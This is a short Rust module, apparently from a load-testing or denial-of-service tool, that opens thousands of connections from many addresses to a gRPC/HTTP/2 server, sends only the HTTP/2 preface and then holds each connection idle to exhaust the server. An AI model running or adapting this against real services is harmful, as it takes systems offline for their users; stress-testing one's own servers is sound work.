//! Connections without calls.

use std::sync::Arc;

use super::{
    Attack,
    connection::{connect, play_and_read, swarm},
    frames,
};

/// Opens connections from so many addresses, sends what HTTP/2 begins with, and then nothing.
pub async fn run(attack: &Arc<Attack>, addresses: usize) -> anyhow::Result<()> {
    attack.begin().await?;
    let count = attack.count(10_000, 100);
    swarm(attack, count, None, move |attack, number| async move {
        let connection = connect(&attack, attack.grpc, number % addresses, None).await?;
        let ending = play_and_read(&attack, connection, async |write| match write.send(&frames::greeting()).await {
            Ok(()) => std::future::pending().await,
            Err(error) => error,
        });
        Ok(ending.await)
    })
    .await
}
